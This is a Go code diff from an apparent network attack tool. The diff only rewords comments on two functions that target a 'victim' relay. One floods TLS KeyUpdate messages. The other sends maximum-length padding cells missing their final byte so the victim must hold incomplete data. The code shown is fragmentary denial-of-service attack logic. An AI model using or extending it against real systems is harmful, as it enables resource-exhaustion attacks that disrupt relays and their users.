@@ -8,12 +8,13 @@ import (
 	"github.com/chivenet/chive/internal/fault"
 )
 
-// updatesPerCell is how many KeyUpdates go between two cells: implementations
-// of TLS give up a peer that sends many messages in a row and no data.
+// updatesPerCell is how many KeyUpdates are sent between two cells: TLS
+// implementations close a connection on which many such messages come without
+// data.
 const updatesPerCell = 8
 
-// keyUpdates changes the keys again and again, asks the victim to do so too,
-// and does not read that it did.
+// keyUpdates changes the keys again and again, asks the victim to do so, too,
+// and does not read the answers.
 func keyUpdates(ctx context.Context, a *attack) error {
 	padding := cell.AppendVar(nil, 0, cell.CmdVPadding, nil)
 	return a.links(ctx, func(ctx context.Context, l *link) (err error) {
@@ -35,8 +36,8 @@ func keyUpdates(ctx context.Context, a *attack) error {
 	})
 }
 
-// varCells sends cells of the greatest length but for the last byte of each,
-// and waits: the victim holds what it cannot use yet.
+// varCells sends cells of the maximum length without their last byte, and waits:
+// the victim must keep the incomplete cells.
 func varCells(ctx context.Context, a *attack) error {
 	whole := binary.BigEndian.AppendUint16([]byte{0, 0, 0, 0, byte(cell.CmdVPadding)}, 0xffff)
 	whole = append(whole, make([]byte, 0xffff-1)...)
